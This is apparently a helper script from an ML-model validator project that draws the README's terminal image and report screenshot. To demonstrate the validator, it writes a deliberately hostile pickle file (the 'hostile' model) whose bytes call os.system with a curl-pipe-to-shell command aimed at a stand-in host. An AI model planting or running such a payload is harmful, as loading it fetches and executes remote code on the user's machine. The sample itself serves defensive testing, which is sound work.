"""Draws the pictures of the README: ``docs/terminal.svg``, and with chromium on the PATH ``docs/report.png``.

``python tools/pictures.py`` writes both; ``--check`` only compares the first, which needs nothing but the validator.
"""

from __future__ import annotations

import html
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
TERMINAL = ROOT / "docs" / "terminal.svg"
REPORT = ROOT / "docs" / "report.png"

_COMMANDS = ("mlmodel-validate copied", "mlmodel-validate --select MLM6 hostile")
_PROGRAM = [
    sys.executable,
    "-c",
    "from mlmodel.cli.validate import command; command(prog_name='mlmodel-validate')",
]
_LETTER = 8.43
"""Width of a letter of 14 pixels."""
_LINE = 20
_COLUMNS = 112
_COLORS = {"31": "#ff8b80", "32": "#7fd197", "33": "#f0c060", "36": "#7cc7e8", "1": "#ffffff"}


def models(folder: Path) -> None:
    """The models of the README: one whose lines were lost, one whose pickle runs a command."""
    example = ROOT / "examples" / "sklearn-logistic-regression"
    for name in ("copied", "hostile"):
        shutil.copytree(example, folder / name)
    lines = (folder / "copied" / "MLmodel").read_text(encoding="utf-8").splitlines(keepends=True)
    lost = ("flavors:", "    env:", "signature:")
    (folder / "copied" / "MLmodel").write_text(
        "".join(line for line in lines if not line.startswith(lost)), encoding="utf-8", newline="\n"
    )
    (folder / "hostile" / "model.pkl").write_bytes(b'cos\nsystem\n(S"curl evil.example | sh"\ntR.')


def output(folder: Path, *arguments: str) -> str:
    """What the command prints."""
    kept = {key: value for key, value in os.environ.items() if key not in ("NO_COLOR", "FORCE_COLOR")}
    return subprocess.run(
        [*_PROGRAM, *arguments],
        check=False,
        capture_output=True,
        encoding="utf-8",
        cwd=folder,
        env={**kept, "PYTHONPATH": str(ROOT / "validator"), "PYTHONUTF8": "1"},
    ).stdout


def terminal(folder: Path) -> str:
    """The picture of a terminal."""
    lines: list[str] = []
    for command in _COMMANDS:
        lines.append(f"\x1b[32m$\x1b[0m {command}")
        for line in output(folder, "--color", *command.split()[1:]).splitlines():
            lines += _wrapped(line)
        lines.append("")
    del lines[-1]
    width, height = round(_COLUMNS * _LETTER + 32), len(lines) * _LINE + 56
    rows = "".join(
        f'<text x="16" y="{48 + index * _LINE}" xml:space="preserve">{_colored(line)}</text>\n'
        for index, line in enumerate(lines)
        if line
    )
    dots = "".join(
        f'<circle cx="{20 + 18 * index}" cy="16" r="5.5" fill="{color}"/>'
        for index, color in enumerate(("#ff5f56", "#ffbd2e", "#27c93f"))
    )
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" width="{width}" height="{height}" role="img">\n'
        "<title>mlmodel-validate in a terminal</title>\n"
        f'<rect width="{width}" height="{height}" rx="8" fill="#15181c"/>{dots}\n'
        '<g font-family="ui-monospace,SFMono-Regular,Menlo,Consolas,DejaVu Sans Mono,monospace" font-size="14" fill="#d5d9df">\n'
        f"{rows}</g>\n</svg>\n"
    )


_CODE = re.compile(r"\x1b\[(\d+)m")


def _wrapped(line: str) -> list[str]:
    """A line as a terminal breaks it."""
    rows: list[str] = []
    row, shown = "", 0
    for part in re.split(r"(\x1b\[\d+m)", line):
        if _CODE.fullmatch(part):
            row += part
            continue
        for letter in part:
            if shown == _COLUMNS:
                rows.append(row)
                row, shown = "", 0
            row += letter
            shown += 1
    return [*rows, row]


def _colored(line: str) -> str:
    parts = _CODE.split(line)
    text = html.escape(parts[0])
    for code, shown in zip(parts[1::2], parts[2::2], strict=True):
        if code == "0" or not shown:
            text += html.escape(shown)
        else:
            weight = ' font-weight="700"' if code == "1" else ""
            text += f'<tspan fill="{_COLORS[code]}"{weight}>{html.escape(shown)}</tspan>'
    return text


def report(folder: Path, browser: str) -> None:
    """The picture of the page, with the parts about the second model open."""
    output(folder, "--format", "html=report.html", "copied", "hostile")
    page = (folder / "report.html").read_text(encoding="utf-8")
    before, model, after = page.partition('id="model-2"')
    model += after.replace("<details><summary>Serialized", "<details open><summary>Serialized", 1)
    (folder / "report.html").write_text(before + model, encoding="utf-8")
    subprocess.run(
        [
            browser,
            "--headless=new",
            "--no-sandbox",
            "--disable-gpu",
            "--hide-scrollbars",
            "--window-size=1100,2100",
            f"--screenshot={REPORT}",
            (folder / "report.html").as_uri(),
        ],
        check=True,
        capture_output=True,
    )


def main() -> int:
    """Write, or compare; 1 when the terminal's picture is not what the command shows."""
    with tempfile.TemporaryDirectory() as made:
        folder = Path(made)
        models(folder)
        fresh = terminal(folder)
        if "--check" in sys.argv[1:]:
            if not TERMINAL.exists() or TERMINAL.read_text(encoding="utf-8") != fresh:
                print(f"{TERMINAL.relative_to(ROOT)} is not what the command shows: run {sys.argv[0]}")
                return 1
            return 0
        TERMINAL.write_text(fresh, encoding="utf-8", newline="\n")
        browser = shutil.which("chromium") or shutil.which("google-chrome")
        if browser is not None:
            report(folder, browser)
    return 0


if __name__ == "__main__":
    sys.exit(main())
